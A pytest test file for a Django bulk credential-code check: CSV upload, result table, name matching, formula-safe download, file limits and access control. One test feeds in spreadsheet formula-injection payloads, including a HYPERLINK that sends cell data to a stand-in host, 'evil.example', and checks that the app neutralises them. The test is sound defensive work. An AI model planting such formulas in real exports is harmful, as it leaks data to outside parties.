"""The bulk check of verification codes: every result, the name flag, the CSV download, bad
files answered in plain words on a 200 page, bounded queries, and nothing stored."""

import csv
import datetime
import io
import json
import re

import pytest
import time_machine
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from certificates import organization_checks as checks
from certificates.codes import format_code, new_code
from certificates.models import CertificateKind, ProgramEnrollment
from certificates.services import new_certificate

from .builders import make_program

pytestmark = pytest.mark.django_db

NOW = datetime.datetime(2026, 6, 15, 16, tzinfo=datetime.UTC)
TODAY = datetime.date(2026, 6, 15)
MISSING = "HJKMNPQRTUVWXY34789ABCDEFHJK"


@pytest.fixture(autouse=True)
def pinned_clock():
    with time_machine.travel(NOW, tick=False):
        yield


def days(n: int) -> datetime.date:
    return TODAY + datetime.timedelta(days=n)


def credential(holder, *, title, expires_on=None, status="active", name=None):
    version = make_program(f"p-{ProgramEnrollment.objects.count()}", title=title)
    enrollment = ProgramEnrollment.objects.create(
        trainee=holder, program=version.program, version=version
    )
    return new_certificate(
        holder=holder,
        kind=CertificateKind.PROGRAM,
        program_enrollment=enrollment,
        program_version=version,
        name_as_printed=name or holder.legal_name,
        title=title,
        issued_at=NOW - datetime.timedelta(days=300),
        expires_on=expires_on,
        status=status,
        snapshot={"hours": {"secret": "12.5"}},
    )


@pytest.fixture
def admin_client(client, world):
    client.force_login(world.org_admin)
    return client


def check_url(world, organization=None):
    return reverse(
        "organization_credential_check", kwargs={"slug": (organization or world.org).slug}
    )


def upload(client, world, data: bytes | str, name="codes.csv"):
    if isinstance(data, str):
        data = data.encode()
    return client.post(
        check_url(world), {"file": SimpleUploadedFile(name, data, content_type="text/csv")}
    )


def table_rows(page: str) -> list[list[str]]:
    body = page.split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    rows = []
    for row in re.findall(r"<tr>(.*?)</tr>", body, flags=re.S):
        cells = re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row, flags=re.S)
        rows.append([" ".join(re.sub(r"<[^>]+>", " ", cell).split()) for cell in cells])
    return rows


def hidden_rows(page: str) -> str:
    import html

    value = re.search(r'<input type="hidden" name="rows" value="([^"]*)"', page).group(1)
    return html.unescape(value)


@pytest.fixture
def every_kind(world):
    holder = world.trainee
    holder.legal_name = "José Núñez"
    holder.save(update_fields=["legal_name"])
    made = {
        "valid": credential(holder, title="Valid credential", expires_on=days(400)),
        "expiring": credential(holder, title="Expiring credential", expires_on=days(30)),
        "expired": credential(holder, title="Expired credential", expires_on=days(-3)),
        "suspended": credential(
            holder, title="Suspended credential", expires_on=days(400), status="suspended"
        ),
        "revoked": credential(holder, title="Revoked credential", status="revoked"),
        "replaced": credential(
            holder, title="Replaced credential", expires_on=days(50), status="superseded"
        ),
    }
    return {kind: certificate.verification_code for kind, certificate in made.items()}


def every_kind_file(codes) -> str:
    return (
        "Code , NAME\n"
        f"{format_code(codes['valid']).lower()},jose nunez\n"
        f"{codes['expiring']},Casey Morgan\n"
        f"  {format_code(codes['expired'])}  ,\n"
        f"{codes['suspended']},JOSÉ  NÚÑEZ\n"
        f"{codes['revoked']},José Núñez\n"
        f"{codes['replaced']},José Núñez\n"
        f"{MISSING},José Núñez\n"
        "not-a-code,José Núñez\n"
    )


def test_every_result_kind_with_the_name_flag(admin_client, world, every_kind):
    response = upload(admin_client, world, every_kind_file(every_kind))
    assert response.status_code == 200
    page = response.content.decode()
    assert table_rows(page) == [
        ["2", format_code(every_kind["valid"]).lower(), "Valid", "Valid credential", "José Núñez", "July 20, 2027", "Matches"],
        ["3", every_kind["expiring"], "Expiring soon", "Expiring credential", "José Núñez", "July 15, 2026", "Name does not match Given: Casey Morgan"],
        ["4", format_code(every_kind["expired"]), "Expired", "Expired credential", "José Núñez", "June 12, 2026", ""],
        ["5", every_kind["suspended"], "Suspended", "Suspended credential", "José Núñez", "July 20, 2027", "Matches"],
        ["6", every_kind["revoked"], "Revoked", "Revoked credential", "José Núñez", "Does not expire", "Matches"],
        ["7", every_kind["replaced"], "Replaced", "Replaced credential", "José Núñez", "Aug. 4, 2026", "Matches"],
        ["8", MISSING, "Not found", "", "", "", ""],
        ["9", "not-a-code", "Not a valid code", "", "", "", ""],
    ]  # fmt: skip
    assert "1 name does not match the name printed on the credential." in page
    for label in ("Valid: 1", "Expiring soon: 1", "Not found: 1", "Not a valid code: 1"):
        assert label in page
    # Never more than the public verification page: no hours, no email, no snapshot.
    assert "12.5" not in page and "secret" not in page
    assert "@example.test" not in page.split("<main", 1)[1]
    assert response["Cache-Control"].startswith("max-age=0")


def test_the_get_page_states_the_format_and_limits(admin_client, world):
    page = admin_client.get(check_url(world)).content.decode()
    assert "At most 1 MB and 5,000 rows in one file." in page
    assert 'enctype="multipart/form-data"' in page
    assert '<label for="id_file">' in page
    assert "“code”, and “name”" in page


def test_the_download_is_a_formula_safe_csv_of_the_same_results(admin_client, world, every_kind):
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    extra = io.StringIO()
    csv.writer(extra, lineterminator="\n").writerows([[payload, "@SUM(1+1)"], ["+cmd", "-2+3"]])
    data = every_kind_file(every_kind) + extra.getvalue()
    page = upload(admin_client, world, data).content.decode()
    # Shown as text, escaped, never as a link.
    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Click&quot;)" in page
    assert 'href="http://evil.example' not in page
    rows_text = hidden_rows(page)
    response = admin_client.post(check_url(world), {"rows": rows_text})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="credential-check-riverside-test-2026-06-15.csv"'
    )
    content = response.content.decode("utf-8")
    assert content.startswith("\ufeff")
    lines = list(csv.reader(io.StringIO(content.removeprefix("\ufeff"))))
    assert lines[0] == [
        "Row",
        "Code as typed",
        "Result",
        "Credential",
        "Name as printed",
        "Expires",
        "Name given",
        "Name check",
    ]
    assert lines[1] == [
        "2",
        format_code(every_kind["valid"]).lower(),
        "Valid",
        "Valid credential",
        "José Núñez",
        "2027-07-20",
        "jose nunez",
        "Matches",
    ]
    assert lines[2][2] == "Expiring soon" and lines[2][7] == "Name does not match"
    assert [line[2] for line in lines[1:9]] == [
        "Valid",
        "Expiring soon",
        "Expired",
        "Suspended",
        "Revoked",
        "Replaced",
        "Not found",
        "Not a valid code",
    ]
    assert lines[9] == ["10", "'" + payload, "Not a valid code", "", "", "", "'@SUM(1+1)", ""]
    assert lines[10] == ["11", "'+cmd", "Not a valid code", "", "", "", "'-2+3", ""]


def test_a_tampered_download_gets_the_form_and_a_message(admin_client, world):
    response = admin_client.post(check_url(world), {"rows": "[[1, {}]]"})
    assert response.status_code == 200
    page = response.content.decode()
    assert "We could not read these results again. Please upload your file again." in page
    assert '<input type="file"' in page


def test_when_the_results_would_not_fit_a_post_the_page_says_so(
    admin_client, world, every_kind, settings
):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 16_384 + 100
    page = upload(admin_client, world, every_kind_file(every_kind)).content.decode()
    assert "too long to download from this page" in page
    assert 'name="rows"' not in page


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "This file is empty."),
        (b"codes,person\nX,Y\n", "We found: \u201ccodes\u201d, \u201cperson\u201d."),
        (bytes(range(256)) * 40, "We could not read this file as text."),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "We could not read this file as text."),
        (b"code\nA\x00B\n", "This does not look like a CSV file."),
        ("code,name\nX,José\n".encode("cp1252"), "CSV UTF-8 (comma delimited)"),
        (b"code\n" + b"X\n" * (checks.MAX_ROWS + 1), "more than 5,000 rows of codes"),
        (b"code\n" + b"A" * 1_000_001, "larger than 1 MB"),
    ],
    ids=["empty", "columns", "junk", "png", "nul", "cp1252", "rows", "size"],
)
def test_bad_files_get_a_plain_message_on_a_200_page(admin_client, world, data, message):
    response = upload(admin_client, world, data)
    assert response.status_code == 200
    page = response.content.decode()
    assert message in page
    assert "<tbody>" not in page
    assert '<input type="file"' in page


def test_no_file_chosen(admin_client, world):
    response = admin_client.post(check_url(world), {})
    assert response.status_code == 200
    assert "Choose a CSV file to check." in response.content.decode()


def test_a_100_kb_code_is_not_a_valid_code_without_a_lookup(admin_client, world):
    data = f"code\n{'A' * 100_000}\n"
    with CaptureQueriesContext(connection) as captured:
        response = upload(admin_client, world, data)
    assert response.status_code == 200
    page = response.content.decode()
    assert table_rows(page) == [["2", "A" * 64 + "…", "Not a valid code", "", "", ""]]
    assert len(page) < 60_000
    assert not [q for q in captured.captured_queries if "certificates_certificate" in q["sql"]]


def page_queries(client, world) -> int:
    """Queries of the upload page itself (session, person, organization, site settings)."""
    client.get(check_url(world))
    with CaptureQueriesContext(connection) as captured:
        client.get(check_url(world))
    return len(captured)


def test_a_10000_row_file_is_refused_with_a_clear_answer_and_no_lookups(admin_client, world):
    data = "code,name\n" + "".join(f"{new_code()},Person {n}\n" for n in range(10_000))
    assert len(data) < checks.MAX_FILE_BYTES
    baseline = page_queries(admin_client, world)
    with CaptureQueriesContext(connection) as captured:
        response = upload(admin_client, world, data)
    assert response.status_code == 200
    assert (
        "This file has more than 5,000 rows of codes. Split it into files of at most 5,000 rows "
        "and check each one."
    ) in response.content.decode()
    assert not [q for q in captured.captured_queries if "certificates_certificate" in q["sql"]]
    assert len(captured) <= baseline


def test_the_largest_file_needs_ten_lookups_and_downloads_whole(admin_client, world, every_kind):
    codes = [new_code() for _ in range(checks.MAX_ROWS - 1)] + [every_kind["valid"]]
    data = "code\n" + "\n".join(format_code(code) for code in codes) + "\n"
    baseline = page_queries(admin_client, world)
    with CaptureQueriesContext(connection) as captured:
        response = upload(admin_client, world, data)
    assert response.status_code == 200
    lookups = [q for q in captured.captured_queries if "certificates_certificate" in q["sql"]]
    assert len(lookups) == checks.MAX_ROWS // checks.LOOKUP_CHUNK
    assert len(captured) <= baseline + len(lookups)
    page = response.content.decode()
    assert "Not found: 4,999" in page or "Not found: 4999" in page
    assert "Valid: 1" in page
    with CaptureQueriesContext(connection) as captured:
        download = admin_client.post(check_url(world), {"rows": hidden_rows(page)})
    lines = download.content.decode().splitlines()
    assert len(lines) == 1 + checks.MAX_ROWS
    assert lines[-1].split(",")[2] == "Valid"
    assert (
        len([q for q in captured.captured_queries if "certificates_certificate" in q["sql"]])
        == checks.MAX_ROWS // checks.LOOKUP_CHUNK
    )


def test_nothing_is_stored(admin_client, world, every_kind, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.FILE_UPLOAD_TEMP_DIR = tmp_path
    admin_client.get(check_url(world))  # the site's settings row is made on a first page view
    models = apps.get_models()
    before = {model: model.objects.count() for model in models}
    session_before = dict(admin_client.session.items())
    page = upload(admin_client, world, every_kind_file(every_kind)).content.decode()
    admin_client.post(check_url(world), {"rows": hidden_rows(page)})
    upload(admin_client, world, b"\x00\x01junk")
    after = {model: model.objects.count() for model in models}
    assert after == before
    assert dict(admin_client.session.items()) == session_before
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("who", ["other_admin", "trainee", "supervisor", "independent"])
def test_anyone_but_this_organizations_admin_gets_a_404(client, world, every_kind, who):
    client.force_login(getattr(world, who))
    assert client.get(check_url(world)).status_code == 404
    response = client.post(
        check_url(world),
        {"file": SimpleUploadedFile("c.csv", every_kind_file(every_kind).encode())},
    )
    assert response.status_code == 404
    rows = json.dumps([[2, every_kind["valid"], None]])
    assert client.post(check_url(world), {"rows": rows}).status_code == 404
